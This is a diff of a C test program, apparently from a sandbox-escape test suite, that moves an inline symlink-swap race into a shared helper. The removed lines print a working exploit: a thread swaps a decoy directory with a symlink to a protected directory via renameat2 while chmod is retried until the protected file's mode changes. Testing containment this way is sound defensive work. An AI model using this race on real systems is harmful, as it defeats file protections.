@@ -11,22 +11,9 @@
  * expect-match: protected
  */
 #include "esc.h"
-#include <pthread.h>
-#include <stdatomic.h>
 #include <sys/stat.h>
 
 #include <linux/capability.h>
-
-static atomic_bool stop;
-static char d[4096], lnk[4096];
-
-static void *swapper(void *arg)
-{
-	(void)arg;
-	while (!atomic_load(&stop))
-		renameat2(AT_FDCWD, lnk, AT_FDCWD, d, RENAME_EXCHANGE);
-	return NULL;
-}
 
 static void drop_caps(void)
 {
@@ -44,39 +31,6 @@ static void drop_caps(void)
 
 int main(void)
 {
-	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
-	struct stat st;
-	mode_t before;
-
 	drop_caps();
-	snprintf(d, sizeof(d), "%s/d", esc_work());
-	snprintf(lnk, sizeof(lnk), "%s/linkdir", esc_work());
-	if (stat(victim, &st) < 0)
-		esc_broken("stat %s: %s", victim, strerror(errno));
-	before = st.st_mode & 07777;
-	if (mkdir(d, 0755) < 0)
-		esc_broken("mkdir: %s", strerror(errno));
-	int fd = open(esc_fmt("%s/victim.txt", d), O_WRONLY | O_CREAT, 0644);
-	if (fd < 0)
-		esc_broken("decoy");
-	close(fd);
-	if (symlink(esc_protected(), lnk) < 0)
-		esc_blocked("symlink: %s", strerror(errno));
-	pthread_t t;
-	pthread_create(&t, NULL, swapper, NULL);
-	const char *target = esc_fmt("%s/victim.txt", d);
-	double end = esc_now() + 5;
-	long tries = 0;
-	mode_t m = before ^ 0100;
-	while (esc_now() < end) {
-		tries++;
-		chmod(target, m);
-		if (stat(victim, &st) == 0 && (st.st_mode & 07777) != before) {
-			atomic_store(&stop, true);
-			esc_success("chmod reached protected/victim.txt through a swapped directory after %ld tries (capabilities dropped)", tries);
-		}
-	}
-	atomic_store(&stop, true);
-	pthread_join(t, NULL);
-	esc_blocked("protected/victim.txt kept its mode in %ld tries", tries);
+	esc_chmod_swap_race(" (capabilities dropped)");
 }
